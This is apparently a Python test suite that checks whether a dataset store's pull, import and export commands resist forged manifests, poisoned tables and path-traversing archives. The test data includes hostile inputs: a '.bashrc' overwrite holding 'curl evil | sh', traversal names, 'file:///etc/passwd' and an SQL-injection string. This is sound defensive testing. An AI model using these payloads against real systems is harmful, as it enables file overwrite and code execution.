"""Strangers' stores and archives: every attack that was seen, and thousands of mutations of honest ones.

Whatever a store, a record, a table or an archive says, `pull`, `import` and `export` write inside the folders that they
were given and end well or in one line. Each mutation is made twice over: with a right checksum alone, and with the
digest, the ID and the column digests recomputed, as somebody would who knows the format.
"""

import io
import json
import random
import shutil
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from functools import partial
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from curation.config import SourceRecipe
from curation.pipeline import curate
from curation.reading import files as sources
from curation.reading.records import check_columns, read_records
from curation.uncurated import uncurated
from evaluation.benchmarks import freeze_benchmark
from evaluation.config import BenchmarkRecipe
from manifests import store as stores
from manifests.catalog import Catalog
from manifests.errors import UserError
from manifests.exports.exchange import copy
from manifests.exports.export import FORMATS
from manifests.identity import canonical_json, json_digest, schema_names, table_digest
from manifests.manifest import Family, File, Manifest, Part, content_digest, id_of, record_bytes, resolve, verify
from manifests.recipe import parse
from manifests.store import Store
from mixtures.export import export
from mixtures.mix import mix

QUICK, FULL = 100, 10_000
Plain = dict[str, Any]


@dataclass(frozen=True)
class Ground:
    """A victim's folder deep below a home with something to lose, and a place for strangers' stores."""

    root: Path

    @property
    def home(self) -> Path:
        return self.root / "home"

    @property
    def work(self) -> Path:
        return self.home / "a/b/c/work"

    def prepare(self) -> None:
        shutil.rmtree(self.work, ignore_errors=True)
        self.work.mkdir(parents=True)
        (self.home / ".bashrc").write_text("the victim's own")

    def outside(self) -> dict[str, bytes]:
        """Everything below the root but the victim's working folder and the strangers' stores."""
        spared = (self.work, self.root / "stranger")
        paths = [path for path in self.root.rglob("*") if not any(path.is_relative_to(one) for one in spared)]
        return {str(path.relative_to(self.root)): path.read_bytes() if path.is_file() else b"" for path in paths}

    def stranger(self) -> Store:
        shutil.rmtree(self.root / "stranger", ignore_errors=True)
        return Store(self.root / "stranger")


@pytest.fixture
def ground(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Ground:
    monkeypatch.setattr(stores, "_sync", lambda _: None)  # nothing here is about what a power cut leaves
    made = Ground(tmp_path / "ground")
    made.prepare()
    return made


@pytest.fixture
def honest(store: Store, toy, mixture, recipe, tmp_path: Path) -> list[Manifest]:
    """A corpus, a mixture, prompts and a benchmark."""
    components = [{"name": "rl", "manifest": "toy@1", "where": "role = 'rl'"}]
    asked = recipe(name="prompts", kind="prompts", components=components, budget=None, sequence_length=None)
    items = tmp_path / "items.jsonl"
    items.write_text("\n".join(json.dumps({"question": f"What is {i}?", "answer": str(i)}) for i in range(5)))
    benchmark = freeze_benchmark(store, BenchmarkRecipe(name="sums", path=str(items)))
    return [toy, mixture, mix(store, asked), benchmark]


# -- forging ---------------------------------------------------------------------------------------------------------


def plain_of(manifest: Manifest) -> Plain:
    plain = json.loads(record_bytes(manifest))
    plain.pop("checksum")
    return plain


def family_of(plain: Plain) -> Family:
    parts = tuple(Part(**part) for part in plain.get("parts", ()))
    files = tuple(File(**file) for file in plain["files"])
    return Family(**plain | {"schema": dict(plain["schema"]), "files": files, "parts": parts})


def made_consistent(plain: Plain) -> Plain:
    """`plain` with the digest and the ID of what it says."""
    families = {name: family_of(family) for name, family in plain["families"].items()}
    digest = content_digest(plain["kind"], plain["parents"], plain["recipe"], families)
    return plain | {"digest": digest, "id": id_of(plain["kind"], digest)}


def put_plain(store: Store, plain: Plain, path: str | None = None) -> None:
    data = canonical_json(plain | {"checksum": json_digest(plain)})
    target = Path(store.root) / (path or f"manifests/{plain['name']}/{plain['version']}.json")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(data)


def copied_store(manifests: list[Manifest], target: Store) -> None:
    """The honest store as a stranger has it."""
    shutil.copytree(manifests[0].store.root, target.root, dirs_exist_ok=True)


def put_bytes(store: Store, data: bytes, suffix: str) -> Plain:
    blob = store.put_object(data, suffix)
    return {"path": blob.path, "sha256": blob.sha256, "bytes": blob.bytes}


def with_table(store: Store, plain: Plain, family: str, change: Callable[[pa.Table], pa.Table]) -> Plain:
    """`plain` whose family `family` is the table that `change` makes of it, every checksum and digest right."""
    known = plain["families"][family]
    table = change(pa.concat_tables(store.read_table(file["path"]) for file in known["files"]))
    sink = io.BytesIO()
    pq.write_table(table, sink)
    file = put_bytes(store, sink.getvalue(), ".parquet") | {"name": "", "rows": len(table)}
    told = {"rows": len(table), "schema": [list(pair) for pair in schema_names(table.schema).items()], "files": [file]}
    told |= {"columns": table_digest([table], table.schema)}
    families = plain["families"] | {family: {**known, **told}}
    families[family].pop("parts", None)
    return made_consistent(plain | {"families": families})


# -- attacks that were seen ------------------------------------------------------------------------------------------


def test_a_raw_file_named_out_of_the_export_is_refused(ground: Ground, mixture):
    stranger, victim, before = ground.stranger(), Store(ground.work / "store"), ground.outside()
    copied_store([mixture], stranger)
    plain = plain_of(mixture)
    name = "../../../../../.bashrc"
    file = put_bytes(stranger, b"curl evil | sh", "") | {"name": name, "rows": 0}
    tokenizer = plain["families"]["tokenizer"]
    tokenizer["files"].append(file)
    tokenizer["columns"][name] = file["sha256"]
    put_plain(stranger, made_consistent(plain))
    with pytest.raises(UserError, match=r"is damaged: .*cannot name a file"):
        copy(stranger, mixture.ref, victim)
    with pytest.raises(UserError, match=r"is damaged: .*cannot name a file"):
        export(resolve(stranger, mixture.ref), "nanoset", ground.work / "out")
    assert ground.outside() == before and not Path(victim.root).exists()


@pytest.mark.parametrize("escape", ["../../../../escaped", "ABSOLUTE", "..", "a/../../../b", "", "x\0y", "a" * 300])
@pytest.mark.parametrize("format", ["jsonl", "hf", "webdataset", "croissant"])
def test_a_source_that_leads_out_of_the_export_is_refused(ground: Ground, toy, escape: str, format: str):
    escape = str(ground.home / "escaped") if escape == "ABSOLUTE" else escape
    stranger, victim, before = ground.stranger(), Store(ground.work / "store"), ground.outside()
    copied_store([toy], stranger)

    def renamed(table: pa.Table) -> pa.Table:
        place = table.column_names.index("source")
        return table.set_column(place, table.field("source"), pa.array([escape] * len(table)))

    forged = with_table(stranger, plain_of(toy), "documents", renamed)
    put_plain(stranger, forged)
    made = copy(stranger, "toy@1", victim)[-1].manifest
    assert verify(victim, made) == []
    with pytest.raises(UserError, match="cannot be part of a path"):
        export(made, format, ground.work / "out")
    assert ground.outside() == before and [path.name for path in ground.work.iterdir()] == ["store"]


@pytest.mark.parametrize("field", ["version", "name"])
@pytest.mark.parametrize("packed", ["folder", "zip", "tar"])
def test_a_version_that_leads_out_of_the_store_is_refused(ground: Ground, toy, field: str, packed: str):
    stranger, victim, before = ground.stranger(), Store(ground.work / "store"), ground.outside()
    copied_store([toy], stranger)
    shutil.rmtree(stranger.full("manifests"))
    evil = "../../../evil_outside"
    plain = plain_of(toy) | {field: evil}
    data = canonical_json(plain | {"checksum": json_digest(plain)})
    if packed == "folder":
        (Path(stranger.root) / "manifests/toy").mkdir(parents=True)
        (Path(stranger.root) / "manifests/toy/1.json").write_bytes(data)
        source = stranger
    else:
        members = {f"store/{path}": stranger.read(path) for path in stranger.list("objects")}
        members |= {f"store/manifests/{plain['name']}/{plain['version']}.json": data}
        source = Store(f"{packed}://store::{archive(ground.root / f'stranger/bad.{packed}', members)}")
    for ref in (toy.id, f"toy@{evil}", "toy@1", evil):
        with pytest.raises(UserError):
            copy(source, ref, victim)
    assert ground.outside() == before and list(ground.work.iterdir()) == []


def archive(path: Path, members: dict[str, bytes]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.suffix == ".zip":
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
            for name, data in members.items():
                packed.writestr(name, data)
        return path
    with tarfile.open(path, "w") as packed:
        for name, data in members.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            packed.addfile(member, io.BytesIO(data))
    return path


@pytest.mark.parametrize("packed", ["zip", "tar"])
def test_a_member_that_leads_out_of_the_archive_is_read_as_nothing(ground: Ground, toy, packed: str):
    before, victim = ground.outside(), Store(ground.work / "store")
    members = {f"store/{path}": toy.store.read(path) for path in toy.store.list("")}
    members |= {"store/../../../escaped": b"x", "/escaped": b"x", "store/manifests/../../../escaped.json": b"{}"}
    members |= {"store/manifests/toy/../../../../x.json": toy.store.read("manifests/toy/1.json")}
    source = Store(f"{packed}://store::{archive(ground.root / f'stranger/x.{packed}', members)}")
    made = copy(source, "toy@1", victim)[-1].manifest
    assert made.id == toy.id and verify(victim, made) == []
    assert ground.outside() == before


def test_a_stranger_does_not_answer_a_build(ground: Ground, store, toy, recipe):
    """Their mixture bears the key of what the victim will ask for."""
    stranger, victim = ground.stranger(), Store(ground.work / "store")
    copy(store, "toy@1", victim)
    copy(store, "toy@1", stranger)
    wanted = mix(store, recipe(seed=1234))
    theirs = mix(stranger, recipe(seed=666, name="theirs"))
    put_plain(stranger, plain_of(theirs) | {"build_key": wanted.build_key})
    pulled = copy(stranger, theirs.ref, victim)[-1].manifest
    assert pulled.id == theirs.id and verify(victim, pulled) == []
    made = mix(victim, recipe(seed=1234))
    assert made.id == wanted.id != theirs.id and made.ref == "mixture@1"
    # a record put there by other means is held against what is asked for
    put_plain(victim, plain_of(theirs) | {"build_key": wanted.build_key, "name": "aaa"})
    assert mix(victim, recipe(seed=1234, name="again")).id == wanted.id
    # and one whose recipe and parents are those asked for is not taken from elsewhere
    other = Store(ground.work / "other")
    copy(store, "toy@1", other)
    copy(store, wanted.ref, stranger)
    forged = plain_of(wanted)
    forged["families"]["tokens"]["identity"] = False
    put_plain(stranger, made_consistent(forged | {"name": "poisoned"}))
    assert copy(stranger, "poisoned@1", other)[-1].manifest.id != wanted.id
    assert mix(other, recipe(seed=1234)).id == wanted.id


def test_files_that_are_not_what_the_id_names_are_not_pulled(ground: Ground, toy):
    """Columns, digest and ID are those of the honest corpus; the file that is named holds other rows."""
    stranger, victim = ground.stranger(), Store(ground.work / "store")
    copied_store([toy], stranger)
    plain = plain_of(toy)
    file = plain["families"]["texts"]["files"][0]
    table = stranger.read_table(file["path"])
    poisoned = table.set_column(1, table.field("text"), pa.array(["poison"] * len(table)))
    sink = io.BytesIO()
    pq.write_table(poisoned, sink)
    file |= put_bytes(stranger, sink.getvalue(), ".parquet")
    put_plain(stranger, made_consistent(plain))
    assert resolve(stranger, "toy@1").id == toy.id
    with pytest.raises(UserError, match=f"its ID {toy.id} names: family texts: content differs"):
        copy(stranger, "toy@1", victim)
    assert victim.list("manifests") == []


@pytest.mark.parametrize("change", ["rows", "schema", "cut", "not parquet"])
def test_a_table_that_lies_about_itself_is_not_pulled(ground: Ground, toy, change: str):
    stranger, victim = ground.stranger(), Store(ground.work / "store")
    copied_store([toy], stranger)
    plain = plain_of(toy)
    family = plain["families"]["documents"]
    file = family["files"][0]
    data = stranger.read(file["path"])
    match change:
        case "rows":
            file["rows"] += 7
            family["rows"] += 7
        case "schema":
            family["schema"] = family["schema"][::-1]
        case "cut":
            file |= put_bytes(stranger, data[: len(data) // 2], ".parquet")
        case _:
            file |= put_bytes(stranger, b"PAR1" + b"\0" * 50 + b"PAR1", ".parquet")
    put_plain(stranger, made_consistent(plain))
    with pytest.raises(UserError, match=r"does not have the content .* names: family documents"):
        copy(stranger, "toy@1", victim)
    assert victim.list("manifests") == []


def test_links_in_a_strangers_store_are_not_followed(ground: Ground, toy):
    stranger, victim, before = ground.stranger(), Store(ground.work / "store"), ground.outside()
    copied_store([toy], stranger)
    (ground.home / "secret").write_text("secret")
    path = Path(stranger.full(toy.files("documents")[0].path))
    path.unlink()
    path.symlink_to(ground.home / "secret")
    with pytest.raises(UserError, match="leads out of"):
        copy(stranger, "toy@1", victim)
    shutil.rmtree(stranger.full("manifests/toy"))
    (Path(stranger.root) / "manifests/toy").symlink_to(ground.home)
    with pytest.raises(UserError, match="leads out of"):
        resolve(stranger, "toy@1")
    with pytest.raises(UserError, match="leads out of"):
        export(replace(toy, store=stranger), "hf", ground.work / "out")
    (ground.home / "secret").unlink()
    assert ground.outside() == before


@pytest.mark.parametrize("name", ["../../../escaped", "/escaped", "..", "a/b", "", "x\0y", "x" * 200])
def test_a_recipe_gives_no_name_that_leads_out(name: str, tokenizer, recipe, tmp_path: Path):
    with pytest.raises(UserError, match=r"components\.0\.name"):
        recipe(components=[{"name": name, "manifest": "toy@1"}])
    with pytest.raises(UserError, match=r"sources\.0\.name"):
        uncurated(str(tmp_path), name, "1", "web", str(tokenizer))
    with pytest.raises(UserError):
        curate(Store(tmp_path / "store"), uncurated(str(tmp_path), "x", name, "web", str(tokenizer)))
    with pytest.raises(UserError, match="cannot be part of a path"):
        sources.resolve("sample://../../secret", tmp_path)


# -- mutations -------------------------------------------------------------------------------------------------------

STRINGS = [
    "../../../../../../escaped", "../escaped", "..", ".", "", "a/b", "a\\..\\b", "x\0y", "x\ny", "\x1b[2J", "~", "~/x",
    "a" * 5000, "toy@1", "corpus-000000000000", "objects/00/" + "0" * 64, "hf://x", "NULL", "' OR 1=1 --", "é",
    "1", "..json", "{text}", "{text.__class__}", "*", "[", "??", "-", "--", "%s", "$HOME", "CON", "x::y", "file:///etc/passwd",
]  # fmt: skip
NUMBERS = [-1, 0, 1, 2**31, 2**53, 2**63 - 1, 2**63, 2**70, -(2**63), 0.5, 1e308, True]
OTHERS: list[Any] = [None, [], {}, [[]], {"a": {"a": {"a": 1}}}, ["x"], "x", 1, False]


def places(value: Any, path: tuple = ()) -> Iterator[tuple]:
    yield path
    if isinstance(value, dict | list):
        for key, item in value.items() if isinstance(value, dict) else enumerate(value):
            yield from places(item, (*path, key))


def mutated(plain: Plain, other: Plain, draw: random.Random, root: Path) -> Plain:
    """`plain` with one to three places changed."""
    plain = json.loads(json.dumps(plain))
    for _ in range(draw.choice([1, 1, 2, 3])):
        found = list(places(plain))[1:]
        # the fields at the top are few and many places lie in schemas: take the top as often as the rest
        place = draw.choice([one for one in found if len(one) <= draw.choice([1, 2, 3, 9])] or found)
        holder = plain
        for key in place[:-1]:
            holder = holder[key]
        last = place[-1]
        match draw.randrange(8):
            case 0:
                del holder[last]
            case 1 if isinstance(holder, dict):
                holder[draw.choice(STRINGS)] = holder.pop(last)
            case 2:
                holder[last] = draw.choice(OTHERS)
            case 3:
                value = other
                for key in draw.choice(list(places(other))):
                    value = value[key]
                holder[last] = json.loads(json.dumps(value))
            case 4 if isinstance(holder[last], list) and holder[last]:
                holder[last].append(holder[last][draw.randrange(len(holder[last]))])
            case 5 if isinstance(holder[last], str) and holder[last]:
                at = draw.randrange(len(holder[last]))
                holder[last] = holder[last][:at] + draw.choice(["/", "..", "\0", "é", "x"]) + holder[last][at + 1 :]
            case 6 | 7 if isinstance(holder[last], int | float):
                holder[last] = draw.choice(NUMBERS)
            case _:
                holder[last] = draw.choice([*STRINGS, str(root / "escaped")])
    return plain


def changed_table(table: pa.Table, draw: random.Random, root: Path) -> pa.Table:
    """A table with hostile names in a column, or of another shape."""
    place = draw.randrange(table.num_columns)
    name = table.column_names[place]
    texts = [*STRINGS, str(root / "escaped"), None]
    match draw.randrange(7):
        case 0:
            return table.drop_columns([name]) if table.num_columns > 1 else table
        case 1:
            return table.set_column(place, name, pa.array([draw.choice([0, -1, 2**62])] * len(table), pa.int64()))
        case 2:
            return table.slice(draw.randrange(3), draw.randrange(5))
        case 3:
            return table.append_column(draw.choice(STRINGS) + "x", pa.array(range(len(table)), pa.int64()))
        case 4:
            return table.set_column(place, name, pa.array([{"a": [1]}] * len(table)))
        case _:
            name = draw.choice([n for n in table.column_names if pa.types.is_string(table.field(n).type)] or [name])
            value = draw.choice(texts)
            place = table.column_names.index(name)
            return table.set_column(place, pa.field(name, pa.string()), pa.array([value] * len(table), pa.string()))


def forged(store: Store, manifests: list[Manifest], draw: random.Random, root: Path) -> Plain | None:
    """A forged record in `store`; None where there is no way to write the change down."""
    manifest = draw.choice(manifests)
    plain = plain_of(manifest)
    try:
        if draw.random() < 0.4:
            tables = [name for name, family in plain["families"].items() if family["format"] == "parquet"]
            plain = with_table(store, plain, draw.choice(tables), lambda table: changed_table(table, draw, root))
        if draw.random() < 0.7:
            plain = mutated(plain, plain_of(draw.choice(manifests)), draw, root)
            plain = made_consistent(plain) if draw.random() < 0.6 else plain
        put_plain(store, plain, draw.choice([None, f"manifests/{manifest.name}/{manifest.version}.json"]))
    except (KeyError, TypeError, ValueError, AttributeError, OSError, pa.ArrowException):
        return None
    return plain


def packed(store: Store, draw: random.Random, path: Path) -> str:
    """The URL of a store as a damaged archive, or of one with members that lead out."""
    kind = draw.choice(["zip", "tar"])
    members = {f"store/{name}": store.read(name) for name in store.list("manifests") + store.list("objects")}
    for _ in range(draw.randrange(3)):
        evil = draw.choice(["../../escaped", "/escaped", "store/../../escaped", "store/manifests/../../../x.json"])
        members[evil + str(draw.randrange(9))] = draw.choice(list(members.values()))
    file = archive(path.with_suffix(f".{kind}"), members)
    data = bytearray(file.read_bytes())
    match draw.randrange(4):
        case 0:
            data = data[: draw.randrange(len(data))]
        case 1:
            for _ in range(draw.randrange(1, 40)):
                data[draw.randrange(len(data))] ^= draw.randrange(1, 256)
        case 2:
            tail = min(len(data), 400)
            for _ in range(4):
                data[len(data) - 1 - draw.randrange(tail)] ^= draw.randrange(1, 256)
    file.write_bytes(bytes(data))
    return f"{kind}://store::{file}"


def in_one_line(act: Callable[[], Any], what: str) -> Any:
    """What `act` returns; None after a UserError of one line. Anything else fails the test and says what it was."""
    try:
        return act()
    except UserError as error:
        assert "\n" not in str(error) and "\x1b" not in str(error) and len(str(error)) < 2000, what
    except Exception as error:
        raise AssertionError(f"{what}: {type(error).__name__}: {error}") from error


def attack(ground: Ground, manifests: list[Manifest], seed: int) -> bool:
    """One forged store, pulled and exported; whether anything was pulled."""
    draw = random.Random(seed)
    ground.prepare()
    stranger, victim = ground.stranger(), Store(ground.work / "store")
    copied_store(manifests, stranger)
    if (plain := forged(stranger, manifests, draw, ground.home)) is None:
        return False
    source = stranger
    if draw.random() < 0.25:
        url = packed(stranger, draw, ground.root / "stranger/packed")
        source = in_one_line(lambda: Store(url), f"seed {seed}: open")
    refs = [plain.get("id"), f"{plain.get('name')}@{plain.get('version')}"]
    pulled: list[Any] = []
    for ref in refs if source else ():
        if isinstance(ref, str):
            parents = draw.random() < 0.5
            pulled += in_one_line(partial(copy, source, ref, victim, parents), f"seed {seed}: pull") or []
    for manifest in {one.manifest.ref: one.manifest for one in pulled}.values():
        format = draw.choice(FORMATS)
        in_one_line(partial(export, manifest, format, ground.work / "out"), f"seed {seed}: export {format}")
        in_one_line(lambda: Catalog(victim).close(), f"seed {seed}: catalog")
        in_one_line(partial(verify, victim, manifest), f"seed {seed}: verify")
    return bool(pulled)


def run_attacks(ground: Ground, manifests: list[Manifest], seeds: range) -> None:
    before = ground.outside()
    pulled = 0
    for seed in seeds:
        pulled += attack(ground, manifests, seed)
        assert ground.outside() == before, f"seed {seed} wrote outside"
    assert pulled > len(seeds) // 20, "hardly any forgery got as far as an export: the test says nothing"


def test_mutated_stores_are_pulled_and_exported_in_one_line(ground: Ground, honest):
    run_attacks(ground, honest, range(QUICK))


@pytest.mark.slow
def test_ten_thousand_mutated_stores_are_pulled_and_exported_in_one_line(ground: Ground, honest):
    run_attacks(ground, honest, range(FULL))


# -- imports ---------------------------------------------------------------------------------------------------------


def import_members(draw: random.Random) -> dict[str, bytes]:
    rows = [{"text": f"page {i}", "url": draw.choice(STRINGS)} for i in range(4)]
    sink = io.BytesIO()
    pq.write_table(pa.Table.from_pylist(rows), sink)
    lines = "\n".join(json.dumps(row) for row in rows).encode()
    return {"a.jsonl": lines, "b.parquet": sink.getvalue(), "c.html": b"<p>page", "d/e.jsonl": lines + b"\n{"}


def import_attack(ground: Ground, seed: int) -> int:
    """One mutated archive, listed, summed and read as a source; how many records it gave."""
    draw = random.Random(seed)
    ground.prepare()
    members = import_members(draw)
    for _ in range(draw.randrange(3)):
        name = draw.choice(["../../escaped", "/escaped", "a/../../escaped", "..\\escaped", "x::y", "\x1b", "é" * 90])
        members[name + draw.choice([".jsonl", ".parquet", ".html", ".warc"])] = draw.choice(list(members.values()))
    for name in list(members):
        if draw.random() < 0.2 and members[name]:
            data = bytearray(members[name])
            data[draw.randrange(len(data))] ^= draw.randrange(1, 256)
            members[name] = bytes(data)
    kind = draw.choice(["zip", "tar"])
    file = archive(ground.root / f"stranger/in.{kind}", members)
    data = bytearray(file.read_bytes())
    if draw.random() < 0.5:
        for _ in range(draw.randrange(1, 20)):
            data[draw.randrange(len(data))] ^= draw.randrange(1, 256)
    file.write_bytes(bytes(data[: draw.choice([len(data)] * 3 + [draw.randrange(len(data))])]))
    name = draw.choice(["mine", *STRINGS])
    path = f"{kind}://{draw.choice(['*', '**/*', '*.jsonl', 'a.jsonl', ''])}::{file}"
    source = in_one_line(
        lambda: parse({"name": name, "path": path, "role": "web"}, SourceRecipe, "import"), f"seed {seed}"
    )
    return in_one_line(lambda: read(source, ground.work), f"seed {seed}: import") or 0 if source else 0


def read(source: SourceRecipe, folder: Path) -> int:
    found = sources.find_files(source, None)
    check_columns(source, found)
    for file in found:
        sources.checksum(file, source)
    return sum(1 for file in found for _ in read_records(file, source, 1 << 20, folder))


def run_imports(ground: Ground, seeds: range) -> None:
    before, records = ground.outside(), 0
    for seed in seeds:
        records += import_attack(ground, seed)
        assert ground.outside() == before, f"seed {seed} wrote outside"
    assert records > len(seeds)


def test_mutated_archives_are_imported_in_one_line(ground: Ground):
    run_imports(ground, range(300, 300 + QUICK))


@pytest.mark.slow
def test_ten_thousand_mutated_archives_are_imported_in_one_line(ground: Ground):
    run_imports(ground, range(FULL))


def test_an_archive_is_imported_whole(ground: Ground, tokenizer):
    members = {"a.jsonl": b'{"text": "one"}\n{"text": "two"}', "d/b.jsonl": b'{"text": "three"}', "../x.jsonl": b"{}"}
    file = archive(ground.root / "stranger/pages.zip", members)
    before = ground.outside()
    store = Store(ground.work / "store")
    corpus = curate(store, uncurated(f"zip://**/*.jsonl::{file}", "mine", "1", "web", str(tokenizer)))
    assert sorted(corpus.read("texts")["text"].to_pylist()) == ["one", "three", "two"]
    assert ground.outside() == before
